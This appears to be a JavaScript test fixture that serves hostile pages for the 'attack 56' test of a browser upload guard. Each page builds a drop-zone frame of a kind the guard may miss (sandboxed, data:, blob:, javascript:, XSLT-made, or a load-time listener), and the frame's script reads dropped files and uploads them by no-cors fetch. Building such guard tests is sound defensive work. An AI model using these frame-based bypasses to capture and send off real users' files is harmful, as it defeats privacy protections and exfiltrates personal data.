// Hostile pages for the fifty-sixth attack on the upload guard: photos the
// PERSON drops (a trusted drop, tests/e2e/browser.mjs dropFiles) onto a frame
// the page made, of a kind where the guard may not be listening first: a
// sandboxed frame (opaque origin), data:, blob:, javascript: and XSLT-made
// documents, a frame whose window got the page's listener inside the call
// that connected it. The frame's own script reads the drop's files and
// uploads them (fetch, no-cors: the server gets them whatever the origin) and
// tells the top page what it saw (postMessage → note). Served by server.mjs at
// /attack56-drop?via=…; tests: attack56.test.mjs.

import { js, sendScript } from './uploads.mjs';

/**
 * The script of the frame the person drops onto: every drag event's items
 * noted (kind/type; getAsFile and webkitGetAsEntry before the drop), the
 * drop's files uploaded to `base`/upload, its entry names noted.
 */
const inner = (why) => `
  const tell = (s) => { try { parent.postMessage('${why}: ' + s, '*'); } catch {} try { top.postMessage('${why}: ' + s, '*'); } catch {} };
  const up = (f, how) => { const b = new FormData(); b.append('photo', f, f.name); fetch(BASE + '/upload', { method: 'POST', body: b, mode: 'no-cors' }).catch((e) => tell('fetch threw ' + e)); tell('sent ' + how + ' ' + f.name + ' ' + f.size); };
  const items = (e) => { const it = e.dataTransfer && e.dataTransfer.items; if (!it) return 'no items'; const out = []; for (let k = 0; k < it.length; k++) { let g = 'x', en = 'x'; try { const f = it[k].getAsFile(); g = f ? f.name + ' ' + f.size : 'null'; } catch (x) { g = x.name; } try { const n = it[k].webkitGetAsEntry(); en = n ? n.name : 'null'; } catch (x) { en = x.name; } out.push(it[k].kind + '/' + it[k].type + ' file=' + g + ' entry=' + en); } return out.join(','); };
  let seen = 0;
  for (const t of ['dragenter', 'dragover']) addEventListener(t, (e) => { e.preventDefault(); if (seen++ < 2) tell(t + ' ' + e.isTrusted + ' ' + items(e)); }, true);
  addEventListener('drop', (e) => { e.preventDefault(); const fs = [...((e.dataTransfer && e.dataTransfer.files) || [])]; tell('drop ' + e.isTrusted + ' ' + fs.map((f) => f.name + ' ' + f.size).join(',') + ' | ' + items(e)); for (const f of fs) up(f, 'drop'); }, true);
  tell('ready in ' + location.href.slice(0, 30) + ' origin ' + origin);`;

const frameStyle = "style='position:fixed;left:0;top:60px;width:400px;height:300px;border:2px solid red'";

/** Each way: page code that makes #zone (what the person drops onto). `B` is the server's base address. */
const WAYS = {
  // Control: the drop zone is the page itself (its window's capture listener, after the guard's).
  top: `const z = document.createElement('div'); z.id = 'zone'; z.style = 'position:fixed;left:0;top:60px;width:400px;height:300px;background:#fee'; document.body.append(z);
    const s = document.createElement('script'); s.textContent = 'const BASE = "";' + ${js(inner('top'))}.replace(/parent.postMessage|top.postMessage/g, 'window.postMessage'); document.body.append(s);`,
  // A sandboxed srcdoc frame that may run scripts but has an opaque origin.
  sandboxsrcdoc: `const f = document.createElement('iframe'); f.id = 'zone'; f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = innerDoc(B, 'sandboxsrcdoc'); f.setAttribute('style', ${js(frameStyle)}.slice(7, -1)); document.body.append(f);`,
  // A data: frame (opaque origin).
  datasrc: `const f = document.createElement('iframe'); f.id = 'zone'; f.src = 'data:text/html;base64,' + btoa(innerDoc(B, 'datasrc')); f.setAttribute('style', ${js(frameStyle)}.slice(7, -1)); document.body.append(f);`,
  // A blob: frame (the page's origin).
  blobsrc: `const f = document.createElement('iframe'); f.id = 'zone'; f.src = URL.createObjectURL(new Blob([innerDoc(B, 'blobsrc')], { type: 'text/html' })); f.setAttribute('style', ${js(frameStyle)}.slice(7, -1)); document.body.append(f);`,
  // A sandboxed frame at an address of the server (opaque origin, a real URL).
  sandboxurl: `const f = document.createElement('iframe'); f.id = 'zone'; f.setAttribute('sandbox', 'allow-scripts'); f.src = '/attack56-inner?why=sandboxurl'; f.setAttribute('style', ${js(frameStyle)}.slice(7, -1)); document.body.append(f);`,
  // A data: frame inside a sandboxed srcdoc frame (opaque in opaque).
  nested: `const f = document.createElement('iframe'); f.id = 'zone'; f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = '<body style="margin:0"><iframe style="border:0;width:100%;height:100vh" src="data:text/html;base64,' + btoa(innerDoc(B, 'nested')) + '"></iframe></body>'; f.setAttribute('style', ${js(frameStyle)}.slice(7, -1)); document.body.append(f);`,
  // A javascript: URL frame: its document is made from the string the URL returns (replacing the first about:blank).
  jsurl: `const f = document.createElement('iframe'); f.id = 'zone'; window.jsdoc = innerDoc(B, 'jsurl'); f.src = 'javascript:parent.jsdoc'; f.setAttribute('style', ${js(frameStyle)}.slice(7, -1)); document.body.append(f);`,
  // An XML document in a blob: frame turned into HTML by an XSLT stylesheet (another blob:): a document the XSLT
  // processor makes, replacing the one content scripts ran in.
  xslt: `const xsl = '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><html><body style="margin:0;height:100vh;background:#efe">xslt drop<script>' + ('const BASE = ' + JSON.stringify(B) + ';' + ${js(inner('xslt'))}).replace(/&/g, '&amp;').replace(/</g, '&lt;') + '</scr' + 'ipt></body></html></xsl:template></xsl:stylesheet>';
    const xu = URL.createObjectURL(new Blob([xsl], { type: 'text/xsl' }));
    const xml = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + xu + '"?><root/>';
    const f = document.createElement('iframe'); f.id = 'zone'; f.src = URL.createObjectURL(new Blob([xml], { type: 'application/xml' })); f.setAttribute('style', ${js(frameStyle)}.slice(7, -1)); document.body.append(f);`,
  // A same-origin about:blank frame: the page's drop listener put on its window inside appendChild (the frame's
  // synchronous load event), before realms.js wraps the frame as the call returns.
  loadlisten: `const f = document.createElement('iframe'); f.id = 'zone'; f.setAttribute('style', ${js(frameStyle)}.slice(7, -1));
    f.addEventListener('load', () => { if (window.once56) return; window.once56 = 1; const w = f.contentWindow; note('load in append'); const s = w.document.createElement('script'); s.textContent = 'const BASE = ' + JSON.stringify(B) + ';' + ${js(inner('loadlisten'))}; w.document.documentElement.append(s); w.document.body && (w.document.body.style = 'margin:0;height:100vh;background:#eef'); });
    document.body.append(f);`,
};

function dropPage(query) {
  const via = Object.hasOwn(WAYS, query.get('via')) ? query.get('via') : 'top';
  return `<p id="status"></p><script>${sendScript}
  window.notes = [];
  const note = (s) => { window.notes.push(String(s)); };
  addEventListener('message', (e) => { if (typeof e.data === 'string') note(e.data); });
  const B = location.origin;
  const INNER = ${js(inner('%WHY%'))};
  const innerDoc = (base, why) => '<!doctype html><body style="margin:0;height:100vh;background:#fee">drop here<scr' + 'ipt>const BASE = ' + JSON.stringify(base) + ';' + INNER.split('%WHY%').join(why) + '</scr' + 'ipt></body>';
  try { ${WAYS[via]} } catch (e) { note('setup threw ' + e.name + ' ' + e.message); }
  setTimeout(() => { window.ready = true; }, 1500);
</script>`;
}

export const DROP_WAYS = Object.keys(WAYS);

export function attack56Page(path, query) {
  if (path === '/attack56-drop') return dropPage(query);
  if (path === '/attack56-inner') {
    const why = /^[a-z]+$/.test(query.get('why') || '') ? query.get('why') : 'inner';
    return `<div style="margin:0;height:100vh;background:#fee">drop here</div><script>const BASE = '';${inner(why)}</script>`;
  }
  return undefined;
}
